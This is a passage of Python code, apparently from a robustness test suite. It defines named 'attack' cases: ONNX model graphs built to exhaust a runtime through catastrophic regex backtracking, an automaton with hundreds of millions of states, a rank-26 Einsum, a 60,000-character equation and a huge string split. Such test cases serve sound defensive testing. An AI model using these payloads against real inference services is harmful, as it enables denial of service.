    network([node("RegexFullMatch", ["t"], ["m"], pattern="(a+)+b"), node("Cast", ["m"], ["y"], to=FLOAT)],
    [strings("t", ["a" * 64])]))
attack("regex-repeat", "RegexFullMatch with ((a{1,900}){1,900}){1,900}: the automaton has 729 million states.",
    network([node("RegexFullMatch", ["t"], ["m"], pattern="((a{1,900}){1,900}){1,900}"), node("Cast", ["m"], ["y"],
    to=FLOAT)], [strings("t", ["a"])]))
attack("tokenizer-regex", "com.microsoft Tokenizer with a catastrophic tokenexp.", network([node("Tokenizer", ["t"],
    ["o"], domain="com.microsoft", mark=0, mincharnum=1, pad_value="#", tokenexp="(.*a){30}")], [strings("t",
    ["a" * 64])], outputs=[value("o", STRING, [None, None])], opsets=(("", 21), ("com.microsoft", 1))))
attack("einsum-many-letters", "Einsum of 26 vectors to a tensor of rank 26.", network([node("Einsum",
    ["x"] * 26, ["o"],
    equation=",".join(chr(97 + i) for i in range(26)) + "->" + "".join(chr(97 + i) for i in range(26))), sum_node(
    "o")]))
attack("einsum-long", "Einsum with an equation of 60,000 characters.", network([node("Einsum", ["x"], ["o"],
    equation="a" * 60000 + "->"), sum_node("o")]))
attack("string-split", "StringSplit of a string of 65,536 separators.", network([node("StringSplit", ["t"], ["o",
    "n"], delimiter=","), node("Cast", ["n"], ["y"], to=FLOAT)], [strings("t", ["," * 65536])]))
